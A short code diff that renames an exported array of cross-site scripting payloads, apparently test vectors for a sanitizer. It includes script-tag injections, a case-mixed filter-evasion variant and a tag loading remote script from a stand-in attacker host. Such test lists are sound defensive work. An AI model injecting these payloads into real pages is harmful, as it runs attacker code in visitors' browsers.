@@ -1,5 +1,5 @@
 /** Ways in which pages have been made to run a script, each calling `pwn()` where it succeeds. */
-export const vectors = [
+export const xssVectors = [
   '<script>pwn()</script>',
   '<ScRiPt>pwn()</sCrIpT>',
   '<script src="https://evil.example/x.js"></script>',
